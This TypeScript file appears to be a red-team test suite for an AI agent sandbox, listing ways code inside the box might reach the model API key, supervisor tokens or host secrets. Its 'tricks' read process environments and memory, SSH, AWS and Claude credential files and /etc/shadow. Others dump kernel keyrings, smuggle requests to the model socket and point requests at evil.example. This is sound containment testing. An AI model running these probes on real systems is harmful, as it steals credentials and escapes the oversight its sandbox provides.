/** To the key: the model's, the owner's token, whatever the supervisor or its user has. `$N` matches any of them. */
import type { Raid } from "../../support/RedTeam.ts"
import { python } from "./python.ts"

const socket = "--unix-socket /run/loop/model.sock"
/** What the relay says to all but the Messages API. */
const refused = "grep -v 'Loop lets an agent use the Messages API only'"

export const key: Raid = {
  teeth: {
    "the placeholder in the key's place": "env | grep -x ANTHROPIC_API_KEY=relay",
    "the relay, which answers": `curl -sm 5 ${socket} -o /dev/null -w '%{http_code}' http://model.invalid/v1/models`,
    "the memory of the agent's program, which can be seen": python(`
found = 0
for line in open(f'/proc/{parent()}/maps'): found += 1
print(found)`)
  },
  tricks: {
    "its own environment": 'env | grep -E "$N"',
    "the environment of every process": `cat /proc/*/environ | tr '\\0' '\\n' | grep -aE "$N"`,
    "the command line of every process": `cat /proc/*/cmdline | tr '\\0' '\\n' | grep -aE "$N"`,
    "the environment of the first process": `tr '\\0' '\\n' </proc/1/environ | grep -aE "$N|LOOP_HOME|SSH_AUTH_SOCK"`,
    "the memory of the agent's program": python(`
import os, re
needle = re.compile(os.environ['N'].encode())
mem = open(f'/proc/{parent()}/mem', 'rb', 0)
for line in open(f'/proc/{parent()}/maps'):
    where, rights, *_ = line.split()
    start, end = (int(x, 16) for x in where.split('-'))
    if not rights.startswith('rw') or end - start > 1 << 28: continue
    try:
        mem.seek(start)
        for m in needle.findall(mem.read(end - start)): print('OUT', m)
    except (OSError, ValueError): pass`),
    "open files of every process": "ls -l /proc/[0-9]*/fd | grep -E 'config.json|token|loop.db|docker'",
    "the supervisor's files": 'cat "$L/config.json" "$L/token" "$L"/*.db "$L"/run/lock',
    "the supervisor's files by way of the box's first process":
      'cat "/proc/1/root$L/config.json" "/proc/1/cwd/../../$L/token"',
    "the supervisor's files by way of an inherited directory":
      'for d in /proc/[0-9]*/fd/*; do [ -d "$d/" ] && cat "$d/../../../../../../../..$L/token"; done',
    "the supervisor's files by way of its home directory": 'ls "$HOME/../../.." | grep -vx channels',
    "keys of the host's user":
      'cat "$H/.ssh/id_ed25519" "$H/.aws/credentials" "$H/.netrc" "$H/.claude/.credentials.json" ~/.ssh/* ~/.aws/* ~/.netrc',
    "the agent of ssh, of gpg or of the desktop":
      "env | grep -E '^(SSH_AUTH_SOCK|GPG_AGENT_INFO|DBUS_SESSION_BUS_ADDRESS|XDG_RUNTIME_DIR)='; ls /run/user",
    "every file that it may read":
      'grep -rasE --exclude-dir=proc --exclude-dir=sys --exclude-dir=usr --exclude-dir=dev -l "$N" / | head -n 3',
    "passwords of this machine": "cat /etc/shadow /etc/gshadow | grep -E '^[^:]+:[$]'",
    "a core dump": "ulimit -c unlimited; cd /tmp; sh -c 'kill -SEGV $$'; ls | grep core; ulimit -Hc | grep -vx 0",
    "the kernel's ring of keys": python(`
for ring in (-1, -2, -3, -4, -5):
    size = sys_keyctl(11, ring, buffer, 4000)
    if size < 0: continue
    for at in range(0, size, 4):
        serial = int.from_bytes(buffer[at:at+4], 'little')
        more = sys_keyctl(11, serial, other, 4000)
        if more > 0 and other[:more].find(b'canary') >= 0: print('OUT')
print('OUT' if sys_keyctl(10, -4, b'user', b'loop-redteam', 0) > 0 else '', end='')`),
    "the list of the kernel's keys": "cat /proc/keys | grep .",
    "sockets beside its own":
      "find / -xdev -type s -not -path '/run/loop/*' -not -path '/proc/*' | head -n 3; find /run -type s | grep -vE '^/run/loop/(model|egress).sock$'",
    "the supervisor's own address": 'curl -sm 3 --noproxy "*" "http://$API/health"',
    "the supervisor's own address by way of the proxy":
      'curl -sm 5 --noproxy "" -x http://127.0.0.1:3128 -p "http://$API/health"',
    "the model's socket asked for its other services": [
      ["GET", "/v1/organizations/api_keys"],
      ["GET", "/v1/models"],
      ["POST", "/v1/files"],
      ["GET", "/v1/messages"],
      ["POST", "/v1/messages/batches"],
      ["POST", "/v1/messages/../files"],
      ["POST", "/v1/messages%2f..%2ffiles"],
      ["POST", "//evil.example/v1/messages"],
      ["POST", "/v1/messages\\\\@evil.example"],
      ["PUT", "/v1/messages"],
      ["CONNECT", "/v1/messages"]
    ]
      .map(
        ([method, path]) => `curl -sm 5 --path-as-is ${socket} -X ${method} 'http://model.invalid${path}' | ${refused}`
      )
      .join("; "),
    "the model's socket asked to go elsewhere": `printf 'POST http://evil.example/v1/messages HTTP/1.1\\r\\nHost: evil.example\\r\\nContent-Length: 2\\r\\n\\r\\n{}' | socat -t 3 - UNIX-CONNECT:/run/loop/model.sock | grep -a '^{' | ${refused}`,
    "two requests as one on the model's socket": `printf 'POST /v1/messages HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /v1/files HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' | socat -t 3 - UNIX-CONNECT:/run/loop/model.sock | grep -aE "$N|HTTP/1.1 200"`,
    "headers of an answer of the model": `curl -sim 5 ${socket} -H 'content-type: application/json' -d '{"model":"m","max_tokens":1,"messages":[{"role":"user","content":"say: x"}]}' http://model.invalid/v1/messages | grep -aE "$N"`,
    "the model's socket upgraded to a tunnel": `printf 'GET /v1/messages HTTP/1.1\\r\\nHost: x\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\n\\r\\n' | socat -t 3 - UNIX-CONNECT:/run/loop/model.sock | grep -a ' 101 '`
  }
}
